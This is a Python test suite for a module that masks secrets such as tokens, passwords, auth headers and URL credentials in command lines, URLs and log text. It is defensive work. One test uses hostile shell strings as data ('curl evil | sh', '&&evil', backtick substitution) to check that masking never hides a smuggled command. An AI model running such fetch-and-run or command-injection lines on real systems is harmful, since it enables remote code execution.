"""What is secret is not shown, and what is not secret is."""

import string
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.tables import table
from toolcanon.text.secrets import (
    MASK,
    is_secret_name,
    mask_command,
    mask_text,
    mask_url,
    secrets_of_command,
    secrets_of_url,
)

SECRET = "correct/horse"  # noqa: S105 - looks like nothing in particular

WORDS = [
    (["--token", SECRET], ["--token", MASK]),
    ([f"--token={SECRET}"], [f"--token={MASK}"]),
    (["--password=two words"], [f"--password={MASK}"]),
    (["-api_key", SECRET], ["-api_key", MASK]),
    (["--githubToken", SECRET], ["--githubToken", MASK]),
    (["--header", f"Auth: Bearer {SECRET}"], ["--header", f"Auth: Bearer {MASK}"]),
    (["-H", f"X-Anything: {SECRET} more"], ["-H", f"X-Anything: {MASK}"]),
    (["--header", SECRET], ["--header", MASK]),
    ([f"Authorization:{SECRET}"], [f"Authorization:{MASK}"]),
    (["docker", "-e", f"ANY={SECRET}"], ["docker", "-e", f"ANY={MASK}"]),
    (["env", f"DB_PASSWORD={SECRET}", "x"], ["env", f"DB_PASSWORD={MASK}", "x"]),
    ([f"postgres://me:{SECRET[:7]}@host/db"], [f"postgres://{MASK}@host/db"]),
    ([f"--to=https://h/p?a={SECRET}&b=2#t={SECRET}"], [f"--to=https://h/p?a={MASK}&b={MASK}#t={MASK}"]),
    (["sk-proj-abcdefgh"], [MASK]),
    (["ghp_abcdefghijklmnopqrst"], [MASK]),
    (["a1b2c3d4e5f6a7b8c9d0e1f2a3b4"], [MASK]),
]  # fmt: skip

PLAIN = [
    ["npx", "-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/srv/data/2026-11-16/x"],
    ["--max-tokens", "4096", "--tokenizer", "cl100k", "--author", "me", "--keyboard", "us"],
    ["--token-file", "/run/secret", "--auth", "--verbose"],
    ["https://example.org/a/b", "--port=80", "--level", "debug", "-v"],
    ["/usr/lib/node_modules/@modelcontextprotocol/server-everything/dist/index.js"],
    ["node", "-e", "A=require('child_process')"],
]


@table("given_, shown", WORDS, ids=lambda words: " ".join(words)[:40])
def test_secrets_in_commands(given_, shown):
    assert list(mask_command(given_)) == shown
    assert "".join(secrets_of_command(given_))


@pytest.mark.parametrize("words", PLAIN, ids=lambda words: words[0])
def test_what_is_no_secret_is_shown(words):
    assert list(mask_command(words)) == words
    assert secrets_of_command(words) == ()


def test_a_program_cannot_hide_behind_a_secret():
    """What `sh -c` runs is what one agrees to, so a mask ends where the value does."""
    for program in ("TOKEN=x; curl evil | sh", "PASSWORD=a&&evil", "SECRET=a`evil`"):
        shown = mask_command(["sh", "-c", program])[-1]
        assert "evil" in shown
        assert MASK in shown


@pytest.mark.parametrize(
    "url, shown",
    [
        ("https://host/mcp", "https://host/mcp"),
        ("https://u:p@host:1/mcp", f"https://{MASK}@host:1/mcp"),
        ("https://tok@host/", f"https://{MASK}@host/"),
        ("https://host/?a=1&b=&c", f"https://host/?a={MASK}&b=&c"),
        ("https://host/mcp/sk-live-abcdefgh/x", f"https://host/mcp/{MASK}/x"),
        ("https://host/@scope/x", "https://host/@scope/x"),
    ],
)
def test_secrets_in_addresses(url, shown):
    assert mask_url(url) == shown


def test_user_and_password_are_known_apart():
    assert {"me:pw", "me", "pw", "1"} <= set(secrets_of_url("https://me:pw@h/?k=1"))


@pytest.mark.parametrize(
    "text, shown",
    [
        ("login with Bearer abc.def-ghi failed", f"login with Bearer {MASK} failed"),
        ("API_KEY=abc, retry", f"API_KEY={MASK}, retry"),
        ('{"token": "abc", "n": 1}', f'{{"token": "{MASK}", "n": 1}}'),
        ("see https://u:p@h/x?k=v.", f"see https://{MASK}@h/x?k={MASK}."),
        ("listening on port 8080", "listening on port 8080"),
        ("abcd and abcdef", f"{MASK} and {MASK}"),
    ],
)
def test_secrets_in_texts(text, shown):
    assert mask_text(text, ["abcd", "abcdef", "to"]) == shown


@pytest.mark.parametrize("name", "token apiKey API_KEY X-Api-Key db.password sig".split())
def test_names_of_secrets(name):
    assert is_secret_name(name)


letters = st.text(string.ascii_letters + string.digits, min_size=12, max_size=40)


@given(letters, st.text(max_size=30), st.text(max_size=30))
def test_a_known_value_is_never_left(secret, before, after):
    assert secret not in mask_text(f"{before}{secret}{after}", [secret])


@given(letters.filter(lambda text: text not in "abcdefghijklmnopqrstuvwxyz"))
def test_a_secret_in_its_place_is_never_left(secret):
    words = ["x", "--token", secret, f"--api-key={secret}", f"https://{secret}@h/?q={secret}",
             "-e", f"A={secret}", "--header", f"X: {secret}", f"SECRET={secret}"]  # fmt: skip
    shown = mask_command(words)
    assert secret not in " ".join(shown)
    assert len(shown) == len(words)
    assert set(secrets_of_command(words)) == {secret}


@pytest.mark.parametrize(
    "hostile",
    ["a" * 200_000, "://" * 60_000, "token=" * 30_000, "?=" * 90_000, "-" * 200_000,
     "a.b-" * 50_000, "Bearer " * 30_000, "http://a@" * 20_000],
    ids=lambda text: text[:9],
)  # fmt: skip
def test_hostile_texts_take_no_time(hostile):
    begun = time.process_time()
    mask_text(hostile, ["abcd"])
    mask_command([hostile, hostile])
    assert time.process_time() - begun < 2
